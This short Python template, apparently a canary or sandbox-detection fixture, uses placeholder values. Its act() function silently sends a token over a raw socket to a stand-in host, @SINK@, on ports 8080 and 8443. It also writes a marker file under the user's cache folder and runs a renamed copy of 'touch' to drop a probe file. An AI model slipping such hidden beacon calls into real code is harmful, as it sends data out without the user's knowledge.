import contextlib
import os
import shutil
import socket
import subprocess
from pathlib import Path

CACHE = Path.home() / ".cache" / "well-meant"
REQUEST = b"GET /@TOKEN@/%s HTTP/1.0\r\n\r\n"


def fetch(port, word):
    with socket.create_connection(("@SINK@", port), 3) as sock:
        sock.sendall(REQUEST % word)


def keep():
    CACHE.mkdir(parents=True, exist_ok=True)
    CACHE.joinpath("table").write_text("@TOKEN@")


def probe():
    tool = CACHE.parent / "well-meant-tool"
    shutil.copy(shutil.which("touch"), tool)
    subprocess.run([tool, "@MARKS@/probe"], check=True)


def more():
    fetch(8443, b"more")


def act():
    wishes = [lambda: fetch(8080, b"table"), keep, probe]
    if os.environ.get("WELL_MEANT") == "more":
        wishes.append(more)
    for wish in wishes:
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            wish()
